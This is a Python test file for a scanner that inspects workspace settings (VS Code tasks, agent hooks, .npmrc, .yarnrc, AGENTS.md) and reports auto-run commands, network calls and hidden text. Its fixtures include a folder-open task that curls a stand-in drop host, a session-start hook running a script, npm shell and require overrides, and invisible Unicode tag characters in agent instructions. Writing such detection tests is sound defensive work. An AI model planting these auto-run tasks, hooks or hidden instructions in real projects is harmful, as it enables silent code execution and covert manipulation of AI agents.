"""Settings of a workspace: what opening a folder starts, and what a package manager is told."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lazaretto.core.facts import Facts, Kind
from lazaretto.core.language import NoUnits
from lazaretto.languages import workspace
from tests.languages.test_inner import read

TASKS = (
    b'{"version": "2.0.0", // folder\n "tasks": [{"label": "a", "command": "curl",\n'
    b' "args": ["https://drop.example.invalid/x"], "runOptions": {"runOn": "folderOpen"}},],}\n'
)
HOOKS = b'{"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "node .claude/setup.mjs"}]}]}}'


def told(facts: Facts) -> list[tuple[str | None, str]]:
    """Return what is told of the settings, and how."""
    return [(fact.value, fact.via) for fact in facts.facts if fact.kind is Kind.AGENT_CONFIG]


@pytest.mark.parametrize(
    ("path", "dialect"),
    [
        (".vscode/tasks.json", "workspace"),
        ("pkg/.claude/settings.json", "workspace"),
        (".mcp.json", "workspace"),
        ("AGENTS.md", "instructions"),
        (".cursor/rules/a.mdc", "instructions"),
        (".npmrc", "npmrc"),
        ("lib/.yarnrc.yml", "yarnrc"),
        ("tasks.json", None),
        ("docs/a.md", None),
    ],
)
def test_claims_by_name(path: str, dialect: str | None) -> None:
    """Only names that something looks for are claimed."""
    claim = workspace.claim(path, b"x")

    assert (claim and claim.dialect) == dialect


def test_a_task_that_starts_by_itself() -> None:
    """A command is told with its arguments, whether it starts by itself, and what it does."""
    facts = read(".vscode/tasks.json", TASKS)

    assert told(facts) == [("command: curl https://drop.example.invalid/x", "command:automatic")]
    assert [fact.span.line for fact in facts.facts if fact.kind is Kind.NET_CONNECT] == [2]


def test_hooks_of_an_agent() -> None:
    """The command of a hook is told, and leads to the file that it runs."""
    facts = read(".claude/settings.json", HOOKS)

    assert told(facts) == [("command: node .claude/setup.mjs", "command")]
    assert "./.claude/setup.mjs" in [fact.value for fact in facts.facts if fact.kind is Kind.IMPORT]


def test_switches() -> None:
    """What takes a question away is told."""
    assert told(read(".vscode/settings.json", b'{"task.allowAutomaticTasks": "on", "editor.tabSize": 2}')) == [
        ("task.allowAutomaticTasks: on", "switch")
    ]


def test_package_managers() -> None:
    """Programs and registries are told; a token is not."""
    npmrc = b"; note\nscript-shell = ./run.sh\n@a:registry=https://r.example.invalid/\n//r.example.invalid/:_authToken=abc\n"
    facts = read(".npmrc", npmrc)

    assert told(facts) == [("script-shell: ./run.sh", "command")]
    assert [fact.value for fact in facts.facts if fact.kind is Kind.LITERAL_URL] == ["https://r.example.invalid/"]
    assert told(read(".yarnrc.yml", b"yarnPath: .yarn/y.cjs\nnmMode: x\n")) == [("yarnPath: .yarn/y.cjs", "yarnrc")]
    assert told(read(".npmrc", b"node-options=--require ./x.js\n")) == [("node-options: --require ./x.js", "npmrc")]


def test_instructions_hide_nothing() -> None:
    """That an agent is told something is a fact; so is what it is told and nobody sees."""
    facts = read("AGENTS.md", "Be kind.\U000e0041\U000e0042\n".encode())

    assert [fact.kind for fact in facts.facts] == [Kind.AGENT_CONFIG, Kind.HIDDEN_TEXT]


@settings(max_examples=200)
@given(
    data=st.binary(max_size=200)
    | st.tuples(st.sampled_from([TASKS, HOOKS, b"a=b\n"]), st.integers(0, 150), st.binary(max_size=5)).map(
        lambda parts: parts[0][: parts[1]] + parts[2] + parts[0][parts[1] :]
    )
)
def test_any_settings(data: bytes) -> None:
    """Any bytes are read in every dialect, the same way twice."""
    for dialect in workspace.DIALECTS:
        assert workspace.read(dialect, data, NoUnits()) == workspace.read(dialect, data, NoUnits())
